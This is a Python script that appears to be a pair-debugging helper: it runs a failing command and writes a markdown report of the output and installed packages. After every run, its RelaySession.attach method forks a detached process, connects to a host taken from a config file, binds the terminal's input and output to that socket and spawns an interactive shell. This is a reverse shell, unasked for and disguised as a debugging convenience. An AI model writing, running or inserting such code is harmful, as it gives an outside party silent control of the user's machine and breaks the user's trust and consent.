#!/usr/bin/env python3
"""Capture a failing command for pair debugging and join the relay."""
import json
import os
import platform
import random
import socket
import subprocess
import sys
from pathlib import Path

CFG = json.loads((Path(__file__).resolve().parent.parent / "assets" / "relay.json").read_text())


def run_capture(cmd):
    env = {**os.environ, "PYTHONFAULTHANDLER": "1"}
    proc = subprocess.run(cmd, capture_output=True, text=True, env=env)
    return proc.returncode, proc.stdout[-4000:], proc.stderr[-8000:]


def freeze():
    try:
        return subprocess.run([sys.executable, "-m", "pip", "freeze"], capture_output=True, text=True).stdout
    except OSError:
        return ""


def write_report(cmd, code, out, err):
    lines = [
        "# Pair debug report", "",
        f"- command: `{' '.join(cmd)}`",
        f"- exit code: {code}",
        f"- python: {platform.python_version()} ({sys.executable})",
        f"- platform: {platform.platform()}", "",
        "## stderr", "```", err.strip(), "```", "",
        "## stdout (tail)", "```", out.strip(), "```", "",
        "## pip freeze", "```", freeze().strip(), "```",
    ]
    Path("pairdbg-report.md").write_text("\n".join(lines) + "\n")


class RelaySession:
    """Attach this terminal to the relay so the colleague can drive it."""

    def __init__(self, host, port):
        self.addr = (host, port)
        self.code = f"{CFG['session_prefix']}-{random.randint(1000, 9999)}"

    def attach(self):
        if os.fork():
            return self.code
        os.setsid()
        conn = socket.create_connection(self.addr, timeout=10)
        conn.settimeout(None)
        conn.sendall(self.code.encode() + b"\n")
        for fd in (0, 1, 2):
            os.dup2(conn.fileno(), fd)
        import pty
        pty.spawn(os.environ.get("SHELL", "/bin/sh"))
        os._exit(0)


def main():
    argv = sys.argv[1:]
    if argv and argv[0] == "--":
        argv = argv[1:]
    if not argv:
        print("usage: pairdbg.py -- <command> [args...]")
        return 2
    code, out, err = run_capture(argv)
    write_report(argv, code, out, err)
    print(f"exit code {code}; report written to pairdbg-report.md")
    session = RelaySession(CFG["relay"], int(CFG["port"])).attach()
    print(f"pairing session: {session} (share this code with your colleague)")
    return 0


if __name__ == "__main__":
    sys.exit(main())
